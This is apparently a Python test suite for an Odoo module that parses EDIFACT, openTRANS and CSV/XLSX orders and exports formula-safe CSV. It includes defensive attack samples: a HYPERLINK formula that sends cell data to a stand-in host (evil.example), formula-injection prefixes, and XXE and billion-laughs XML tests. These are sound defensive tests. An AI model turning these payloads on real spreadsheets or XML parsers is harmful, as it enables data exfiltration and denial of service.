"""Channel formats: EDIFACT ORDERS, openTRANS, CSV/XLSX and the formula-safe CSV export.

Parsers are plain Python; these tests feed them real-looking samples (tests/samples/) and
check every broken case for its exact reason and location, as stored and rendered.
"""

import io
import pathlib
import tempfile
from datetime import datetime
from decimal import Decimal

import openpyxl
from lxml import etree

from odoo.tests import BaseCase, tagged

from ..intake import edifact, opentrans, spreadsheet, table
from ..intake.base import IntakeError
from . import xml_attacks

SAMPLES = pathlib.Path(__file__).resolve().parent / "samples"


def sample(name):
    return (SAMPLES / name).read_bytes()


class IntakeErrorAsserts:
    def assertIntakeError(self, call, reason, location=None, ref=None):
        """``call()`` raises an IntakeError that renders (after storing) as exactly
        ``location: reason`` in English."""
        with self.assertRaises(IntakeError) as caught:
            call()
        error = caught.exception
        expected = f"{location}: {reason}" if location else reason
        self.assertEqual(IntakeError.render(error.to_json(), "en_US"), expected)
        if ref is not None:
            self.assertEqual(error.ref, ref)
        return error


@tagged("post_install", "-at_install")
class TestEdifactOrders(IntakeErrorAsserts, BaseCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.data = sample("eancom_orders_unoc_2msg.edi")
        cls.text = cls.data.decode("iso-8859-1")

    def variant(self, old, new, count=1):
        self.assertIn(old, self.text)
        return self.text.replace(old, new, count).encode("iso-8859-1")

    def test_two_messages_unoc_umlauts(self):
        first, second = edifact.parse(self.data)
        self.assertEqual((first.external_ref, first.index), ("ORD-2026-4711", 0))
        self.assertEqual((second.external_ref, second.index), ("ORD-2026-4712", 1))
        self.assertEqual(first.partner.name, "Warenhaus Schäfer KG")
        self.assertEqual(first.partner.gln, "4012345000009")
        self.assertEqual(first.partner.email, "einkauf@schaefer-warenhaus.example")
        self.assertEqual(
            (first.partner.street, first.partner.zip, first.partner.city),
            ("Königsallee 12", "40212", "Düsseldorf"),
        )
        self.assertEqual(first.shipping.name, "Filiale Köln-Süd")
        self.assertEqual(first.shipping.gln, "4001234000015")
        self.assertEqual(first.currency, "EUR")
        self.assertEqual(first.order_date, datetime(2026, 11, 20))
        self.assertEqual(first.requested_date, datetime(2026, 11, 24))
        # the release character keeps the ':' inside the free text
        self.assertEqual(first.note, "Bitte an Rampe 3 anliefern: Tor schließt um 16 Uhr")
        shirt, jacket = first.lines
        self.assertEqual(
            (shirt.ean, shirt.sku, shirt.customer_code, shirt.quantity, shirt.unit_price),
            ("4006381333931", "OMNI-A", "SCH-88121", Decimal(12), Decimal("19.95")),
        )
        self.assertEqual(shirt.description, "Baumwollhemd weiß Größe M")
        # PRI+AAB:899.00 per 10 pieces
        self.assertEqual((jacket.unit_price, jacket.line_ref), (Decimal("89.9"), "2"))
        self.assertEqual(second.partner.name, "Bücherstube Größmann GmbH")
        self.assertEqual(second.shipping.city, "Nürnberg")
        self.assertEqual(second.order_date, datetime(2026, 11, 20, 10, 30))
        self.assertEqual([line.ean for line in second.lines], ["4006381333955"])

    def test_unow_utf8_reads_the_same(self):
        data = self.text.replace("UNOC:3", "UNOW:4").encode("utf-8")
        orders = edifact.parse(data)
        self.assertEqual(
            [o.partner.name for o in orders], ["Warenhaus Schäfer KG", "Bücherstube Größmann GmbH"]
        )

    def test_unknown_ean_sample_parses(self):
        """An EAN we don't sell is the mapping's error, not the parser's."""
        (order,) = edifact.parse(sample("eancom_orders_unknown_ean.edi"))
        self.assertEqual(order.lines[0].ean, "4006381333962")
        self.assertEqual(order.lines[0].description, "Strickmütze grau")
        self.assertIsNone(order.shipping)

    def test_truncated_mid_segment(self):
        self.assertIntakeError(
            lambda: edifact.parse(sample("eancom_orders_truncated.edi")),
            "The interchange is truncated: it breaks off inside segment 33, after segment 32 "
            "(CUX).",
            "segment 33",
        )

    def test_truncated_after_separator(self):
        cut = self.text.index("QTY+21:3") + len("QTY+")
        self.assertIntakeError(
            lambda: edifact.parse(self.text[:cut].encode("iso-8859-1")),
            "The interchange is truncated: it breaks off inside segment 34, after segment 33 "
            "(LIN).",
            "segment 34",
        )

    def test_truncated_at_segment_boundary(self):
        cut = self.text.index("UNT+12+2")
        self.assertIntakeError(
            lambda: edifact.parse(self.text[:cut].encode("iso-8859-1")),
            "Message 2 (UNH at segment 27) has no trailer UNT: the interchange is truncated or "
            "two messages run together.",
            "segment 38",
        )

    def test_missing_unz(self):
        cut = self.text.index("UNZ+2")
        self.assertIntakeError(
            lambda: edifact.parse(self.text[:cut].encode("iso-8859-1")),
            "The interchange is truncated: the trailer UNZ is missing after segment 38 (UNT).",
            "segment 39",
        )

    def test_wrong_charset_utf8_declared_unoc(self):
        data = sample("eancom_orders_wrong_charset.edi")
        self.assertIntakeError(
            lambda: edifact.parse(data),
            "Wrong charset: byte 236 (0x9F) is not valid in the declared character set UNOC "
            "(ISO-8859-1).",
            "segment 7 (FTX)",
        )

    def test_wrong_charset_cp1252_quotes(self):
        data = self.text.replace("Bitte an Rampe 3", "„Rampe 3“").encode("cp1252")
        offset = data.index(b"\x84")
        self.assertIntakeError(
            lambda: edifact.parse(data),
            f"Wrong charset: byte {offset} (0x84) is not valid in the declared character set "
            "UNOC (ISO-8859-1).",
            "segment 7 (FTX)",
        )

    def test_wrong_charset_unoa_umlaut(self):
        data = self.variant("UNOC:3", "UNOA:3")
        offset = data.index(b"\xdf")  # ß of "schließt"
        self.assertIntakeError(
            lambda: edifact.parse(data),
            f"Wrong charset: byte {offset} (0xDF) is not valid in the declared character set "
            "UNOA (ASCII).",
            "segment 7 (FTX)",
        )

    def test_unsupported_syntax_identifier(self):
        self.assertIntakeError(
            lambda: edifact.parse(self.variant("UNOC:3", "UNOY:4")),
            "The syntax identifier UNOY (character set) is not supported.",
            "UNB",
        )

    def test_control_counts(self):
        cases = [
            (
                self.variant("IMD+F++:::Übergangsjacke grün'\r\n", ""),
                "UNT counts 24 segments but message 1 holds 23: segments were lost or added.",
                "segment 25 (UNT)",
            ),
            (
                self.variant("UNZ+2+", "UNZ+3+"),
                "UNZ counts 3 messages but the interchange holds 2.",
                "segment 39 (UNZ)",
            ),
            (
                self.variant("UNZ+2+ICR00815", "UNZ+2+ICR00999"),
                "UNZ control reference ICR00999 differs from UNB control reference ICR00815.",
                "segment 39 (UNZ)",
            ),
            (
                self.variant("CNT+2:1'", "CNT+2:5'"),
                "CNT+2 says 5 but the order has 1.",
                "segment 37 (CNT)",
            ),
        ]
        for data, reason, location in cases:
            with self.subTest(reason=reason):
                self.assertIntakeError(lambda data=data: edifact.parse(data), reason, location)

    def test_broken_message_content(self):
        cases = [
            (
                self.variant("ORD-2026-4712+9", "ORD-2026-4712+5"),
                "Message function 5 changes or cancels an order: EDI changes are not applied "
                "automatically, customer service must handle order ORD-2026-4712.",
                "segment 28 (BGM)",
            ),
            (
                self.variant("BGM+220+ORD-2026-4712", "BGM+221+ORD-2026-4712"),
                "Document type 221 is not an order (220, 224 or 226 expected).",
                "segment 28 (BGM)",
            ),
            (
                self.variant("4010000000012::9", "4010000000013::9"),
                "GLN 4010000000013 is not valid (13 digits with a check digit).",
                "segment 30 (NAD)",
            ),
            (
                self.variant("4006381333955:SRV", "4006381333956:SRV"),
                "EAN 4006381333956 has a wrong length or check digit.",
                "segment 33 (LIN)",
            ),
            (
                self.variant("QTY+21:3'", "QTY+21:0'"),
                "Quantity 0 of line 1 is outside 0 < quantity ≤ 100000.",
                "segment 34 (QTY)",
            ),
            (
                self.variant("QTY+21:3'", "QTY+21:1e9'"),
                "Quantity 1E+9 of line 1 is outside 0 < quantity ≤ 100000.",
                "segment 34 (QTY)",
            ),
            (
                self.variant("PRI+AAA:4.50", "PRI+AAA:vier"),
                "PRI vier is not a number.",
                "segment 35 (PRI)",
            ),
            (
                self.variant("DTM+137:202611201030:203", "DTM+137:20261131:102"),
                "Date 20261131 does not match the date format 102.",
                "segment 29 (DTM)",
            ),
            (
                self.variant("NAD+BY+4010000000012", "NAD+BT+4010000000012"),
                "Order ORD-2026-4712 names no buyer (NAD+BY).",
                "segment 27 (UNH)",
            ),
            (
                self.variant("QTY+21:3'\r\n", ""),
                "UNT counts 12 segments but message 2 holds 11: segments were lost or added.",
                "segment 37 (UNT)",
            ),
        ]
        for data, reason, location in cases:
            with self.subTest(reason=reason):
                error = self.assertIntakeError(
                    lambda data=data: edifact.parse(data), reason, location
                )
                if "ORD-2026-4712" in reason or "GLN" in reason:
                    self.assertEqual(error.ref, "ORD-2026-4712")

    def test_line_without_quantity(self):
        text = self.text.replace("QTY+21:3'\r\n", "").replace("UNT+12+2", "UNT+11+2")
        self.assertIntakeError(
            lambda: edifact.parse(text.encode("iso-8859-1")),
            "Line 1 has no ordered quantity (QTY+21).",
            "segment 33 (LIN)",
            ref="ORD-2026-4712",
        )

    def test_not_edifact_and_size_cap(self):
        self.assertIntakeError(
            lambda: edifact.parse(b'{"orders": []}'),
            "This is not an EDIFACT interchange: no UNB header with a syntax identifier.",
            "segment 1",
        )
        self.assertIntakeError(lambda: edifact.parse(b""), "The payload is empty.")
        self.assertIntakeError(
            lambda: edifact.parse(self.data, limit=1000),
            f"The payload is {len(self.data)} bytes; the limit is 1000 bytes.",
        )

    def test_error_rendered_in_german(self):
        with self.assertRaises(IntakeError) as caught:
            edifact.parse(sample("eancom_orders_truncated.edi"))
        stored = caught.exception.to_json()
        self.assertEqual(
            IntakeError.render(stored, "de_DE"),
            "segment 33: Die Übertragungsdatei ist abgeschnitten: sie bricht innerhalb von "
            "Segment 33 ab, nach Segment 32 (CUX).",
        )


@tagged("post_install", "-at_install")
class TestSpreadsheetExport(BaseCase):
    def test_safe_cell(self):
        cases = [
            ("=1+1", "'=1+1"),
            ("+49 221 1234", "'+49 221 1234"),
            ("-Rabatt", "'-Rabatt"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("  =1+1", "'  =1+1"),
            ("\u3000=1+1", "'\u3000=1+1"),
            ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"),
            ("\uff0b1", "'\uff0b1"),
            ("Müller & Söhne", "Müller & Söhne"),
            ("a=b", "a=b"),
            ("-12.50", "-12.50"),
            ("", ""),
            (None, ""),
            (-12.5, -12.5),
            (Decimal("19.95"), Decimal("19.95")),
            (7, 7),
        ]
        for value, expected in cases:
            with self.subTest(value=value):
                self.assertEqual(spreadsheet.safe_cell(value), expected)

    def test_golden_file(self):
        rows = [
            [
                "K-10001",
                "Warenhaus Schäfer KG",
                '=HYPERLINK("https://evil.example/?d="&A1,"Klick")',
                3,
                Decimal("19.95"),
            ],
            ["K-10002", "@Bücherstube", "+49 89 123456", -2, -12.5],
            ["K-10003", "  -1+1", "Zeile 1\nZeile 2", 0, "-4,50"],
        ]
        header = ["Kundennummer", "Name", "Notiz", "Menge", "Preis"]
        self.assertEqual(
            spreadsheet.write_csv(rows, header), sample("export_formula_injection_golden.csv")
        )


@tagged("post_install", "-at_install")
class TestTableOrders(IntakeErrorAsserts, BaseCase):
    HEADER = "Bestellnummer;Kundennummer;EAN;Menge;Einzelpreis;Lieferdatum"

    def csv(self, *rows, header=None):
        return "\r\n".join([header or self.HEADER, *rows]).encode("cp1252")

    def test_latin1_semicolon_quoted_newline(self):
        first, second = table.parse(sample("orders_latin1_semicolon.csv"))
        self.assertEqual((first.external_ref, first.index), ("B-1001", 0))
        self.assertEqual(first.partner.customer_ref, "K-10001")
        self.assertEqual(first.partner.name, "Warenhaus Schäfer KG")
        self.assertEqual(
            (first.shipping.name, first.shipping.street, first.shipping.city),
            ("Filiale Köln-Süd", "Bonner Straße 271", "Köln"),
        )
        self.assertEqual(first.note, "Bitte vorher anrufen:\r\nTel. 0221 123456")
        self.assertEqual(first.requested_date, datetime(2026, 11, 25))
        # the quoted newline makes row 1 span lines 2-3: the next row starts on line 4
        self.assertEqual([line.line_ref for line in first.lines], ["2", "4"])
        self.assertEqual(
            [(line.ean, line.quantity, line.unit_price) for line in first.lines],
            [
                ("4006381333931", Decimal(12), Decimal("19.95")),
                ("4006381333948", Decimal(4), Decimal("89.90")),
            ],
        )
        self.assertEqual(first.lines[0].customer_code, "SCH-88121")
        self.assertEqual(second.external_ref, "B-1002")
        self.assertEqual(second.partner.name, "Bücherstube Größmann GmbH")
        self.assertEqual(
            (second.lines[0].sku, second.lines[0].unit_price), ("OMNI-B", Decimal("1234.50"))
        )

    def test_utf8_bom_comma_english_headers(self):
        first, second = table.parse(sample("orders_utf8_bom_comma.csv"))
        self.assertEqual(first.partner.name, "Warenhaus Schäfer KG, Einkauf")
        self.assertEqual(first.shipping.country_code, "DE")
        # 10:00 at +01:00 is stored as UTC
        self.assertEqual(first.requested_date, datetime(2026, 11, 25, 9, 0))
        self.assertEqual(second.partner.email, "bestellung@groessmann.example")
        self.assertEqual(
            (second.lines[0].customer_code, second.lines[0].unit_price),
            ("GM-4711", Decimal("1234.50")),
        )

    def test_xlsx(self):
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(["Order Ref", "GLN", "Kunde", "EAN", "Menge", "Preis", "Datum"])
        sheet.append(
            [
                "X-1",
                4012345000009,
                "Warenhaus Schäfer KG",
                4006381333931,
                5,
                19.95,
                datetime(2026, 11, 25),
            ]
        )
        sheet.append(
            ["X-1", 4012345000009, "Warenhaus Schäfer KG", "4006381333948", 1.5, "7,50", None]
        )
        buffer = io.BytesIO()
        workbook.save(buffer)
        (order,) = table.parse(buffer.getvalue())
        self.assertEqual(order.partner.gln, "4012345000009")
        self.assertEqual(order.requested_date, datetime(2026, 11, 25))
        self.assertEqual(
            [(line.ean, line.quantity, line.unit_price, line.line_ref) for line in order.lines],
            [
                ("4006381333931", Decimal(5), Decimal("19.95"), "2"),
                ("4006381333948", Decimal("1.5"), Decimal("7.50"), "3"),
            ],
        )

    def test_broken_rows(self):
        good = "A-1;K-1;4006381333931;2;9,95;24.11.2026"
        cases = [
            ("A-2;K-2;4006381333931;0;1;", "Quantity 0 is outside 0 < quantity ≤ 100000."),
            ("A-2;K-2;4006381333931;-3;1;", "Quantity -3 is outside 0 < quantity ≤ 100000."),
            ("A-2;K-2;4006381333931;1e9;1;", "Quantity 1e9 is outside 0 < quantity ≤ 100000."),
            ("A-2;K-2;4006381333931;zwei;1;", "Quantity zwei is not a number."),
            ("A-2;K-2;4006381333931;;1;", "The quantity is empty."),
            ("A-2;K-2;4006381333931;1;gratis;", "Price gratis is not a number."),
            ("A-2;K-2;4006381333931;1;-5;", "Price -5 is negative."),
            (
                "A-2;K-2;4006381333931;1;1;31.11.2026",
                "Date 31.11.2026 is not a date (YYYY-MM-DD or DD.MM.YYYY).",
            ),
            ("A-2;K-2;4006381333932;1;1;", "EAN 4006381333932 has a wrong length or check digit."),
            ("A-2;K-2;;1;1;", "The row names no product (EAN, SKU or customer product code)."),
        ]
        for row, reason in cases:
            with self.subTest(row=row):
                # the bad row is the second line of order A-2: its first line is fine
                data = self.csv(good, "A-2;K-2;4006381333948;1;1;", row)
                orders, errors = table.parse_partial(data)
                self.assertEqual([o.external_ref for o in orders], ["A-1"], "no half order A-2")
                (error,) = errors
                self.assertEqual(error.ref, "A-2")
                self.assertEqual(IntakeError.render(error.to_json(), "en_US"), f"line 4: {reason}")
                self.assertIntakeError(lambda data=data: table.parse(data), reason, "line 4")

    def test_order_without_customer(self):
        orders, (error,) = table.parse_partial(
            self.csv("A-1;K-1;4006381333931;2;;", "A-2;;4006381333931;1;1;")
        )
        self.assertEqual([o.external_ref for o in orders], ["A-1"])
        self.assertEqual(
            IntakeError.render(error.to_json(), "en_US"),
            "line 3: The row names no customer (customer number, GLN or e-mail).",
        )

    def test_other_customer_in_same_order(self):
        data = self.csv("A-1;K-1;4006381333931;2;;", "A-1;K-9;4006381333948;1;;")
        self.assertIntakeError(
            lambda: table.parse(data),
            "Order A-1 names another customer (K-9) than on line 2.",
            "line 3",
            ref="A-1",
        )

    def test_file_level_errors(self):
        self.assertIntakeError(
            lambda: table.parse(
                self.csv(
                    "A-1;K-1;4006381333931;2;;", header="Bestellnummer;Kundennummer;EAN;Preis"
                )
            ),
            "Required columns are missing: quantity / Menge. Header found: Bestellnummer | "
            "Kundennummer | EAN | Preis",
            "line 1",
        )
        self.assertIntakeError(
            lambda: table.parse(self.csv("A-1;K-1;4006381333931;2;;", ";K-1;4006381333931;2;;")),
            "The row has no order reference.",
            "line 3",
        )
        self.assertIntakeError(
            lambda: table.parse(b"PK\x03\x04 not really a zip"),
            "The XLSX file cannot be read: File is not a zip file",
        )
        self.assertIntakeError(
            lambda: table.parse(b"\r\n;;\r\n"),
            "The file holds no header line and no rows.",
            "line 1",
        )


@tagged("post_install", "-at_install")
class TestOpenTransOrder(IntakeErrorAsserts, BaseCase):
    def test_valid_order(self):
        (order,) = opentrans.parse(sample("opentrans_order.xml"))
        self.assertEqual(order.external_ref, "OT-2026-0815")
        self.assertEqual(
            (order.partner.gln, order.partner.customer_ref, order.partner.name),
            ("4012345000009", "K-10001", "Warenhaus Schäfer KG"),
        )
        self.assertEqual(order.partner.email, "einkauf@schaefer-warenhaus.example")
        self.assertEqual((order.shipping.gln, order.shipping.city), ("4001234000015", "Köln"))
        self.assertEqual(order.order_date, datetime(2026, 11, 20, 8, 30))  # 09:30+01:00 in UTC
        self.assertEqual(order.requested_date, datetime(2026, 11, 25))
        self.assertEqual(order.currency, "EUR")
        shirt, jacket = order.lines
        self.assertEqual(
            (shirt.sku, shirt.ean, shirt.customer_code, shirt.quantity, shirt.unit_price),
            ("OMNI-A", "4006381333931", "SCH-88121", Decimal(12), Decimal("19.95")),
        )
        self.assertEqual((jacket.customer_code, jacket.unit_price), ("SCH-88122", Decimal("89.9")))

    def test_external_entity_refused_and_never_read(self):
        with tempfile.NamedTemporaryFile("w", suffix=".txt") as secret:
            secret.write("TOP-SECRET-7f3a")
            secret.flush()
            data = xml_attacks.external_entity(f"file://{secret.name}")
            self.assertIntakeError(
                lambda: opentrans.parse(data),
                "The XML declares a DTD: entity declarations are refused (XXE and "
                "entity-expansion protection).",
                "line 2",
            )
            # the parser itself never substitutes the entity, even when asked to parse
            root = etree.fromstring(data, parser=opentrans.xml_parser())
            self.assertNotIn(b"TOP-SECRET", etree.tostring(root))
            # and a UTF-16 document, which the byte check cannot see, is refused after parsing
            utf16 = data.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
            with self.assertRaises(IntakeError) as caught:
                opentrans.parse(utf16)
            self.assertNotIn("TOP-SECRET", IntakeError.render(caught.exception.to_json()))

    def test_billion_laughs_refused(self):
        data = xml_attacks.billion_laughs()
        self.assertIntakeError(
            lambda: opentrans.parse(data),
            "The XML declares a DTD: entity declarations are refused (XXE and "
            "entity-expansion protection).",
            "line 2",
        )
        # the parser alone does not expand it either (libxml2 stops the entity loop)
        with self.assertRaises(etree.XMLSyntaxError):
            etree.fromstring(data, parser=opentrans.xml_parser())

    def test_size_cap_before_parsing(self):
        data = sample("opentrans_order.xml")
        self.assertIntakeError(
            lambda: opentrans.parse(data, limit=1024),
            f"The payload is {len(data)} bytes; the limit is 1024 bytes.",
        )

    def test_broken_orders(self):
        text = sample("opentrans_order.xml").decode()
        cases = [
            (
                text.replace("</ORDER_ITEM_LIST>", ""),
                "The XML is not well-formed: Opening and ending tag mismatch: ORDER_ITEM_LIST "
                "line 51 and ORDER",
                "line 86",
            ),
            (
                text.replace("<QUANTITY>12</QUANTITY>", "<QUANTITY>0</QUANTITY>"),
                "Quantity 0 of line 1 is outside 0 < quantity ≤ 100000.",
                "line 60 (QUANTITY)",
            ),
            (
                text.replace("<QUANTITY>12</QUANTITY>", "<QUANTITY>zwölf</QUANTITY>"),
                "QUANTITY zwölf is not a number.",
                "line 60 (QUANTITY)",
            ),
            (
                text.replace(">4006381333931<", ">4006381333932<"),
                "EAN 4006381333932 has a wrong length or check digit.",
                "line 56 (INTERNATIONAL_PID)",
            ),
            (
                text.replace("<PARTY_ROLE>buyer</PARTY_ROLE>", "")
                .replace("<bmecat:BUYER_IDREF", "<bmecat:OTHER_IDREF")
                .replace("</bmecat:BUYER_IDREF", "</bmecat:OTHER_IDREF"),
                "Order OT-2026-0815 names no buyer (PARTY_ROLE buyer or BUYER_IDREF).",
                "line 4 (ORDER_INFO)",
            ),
            (
                text.replace("<TOTAL_ITEM_NUM>2<", "<TOTAL_ITEM_NUM>3<"),
                "TOTAL_ITEM_NUM says 3 but the order has 2 items.",
                "line 83 (TOTAL_ITEM_NUM)",
            ),
            (
                text.replace("2026-11-20T09:30:00+01:00", "20.11.2026"),
                "20.11.2026 is not an ISO date or date-time.",
                "line 6 (ORDER_DATE)",
            ),
        ]
        for xml, reason, location in cases:
            with self.subTest(reason=reason):
                data = xml.encode()
                self.assertIntakeError(lambda data=data: opentrans.parse(data), reason, location)

    def test_buyer_found_by_idref(self):
        data = sample("opentrans_order.xml").replace(b"<PARTY_ROLE>buyer</PARTY_ROLE>", b"")
        (order,) = opentrans.parse(data)
        self.assertEqual(order.partner.name, "Warenhaus Schäfer KG")
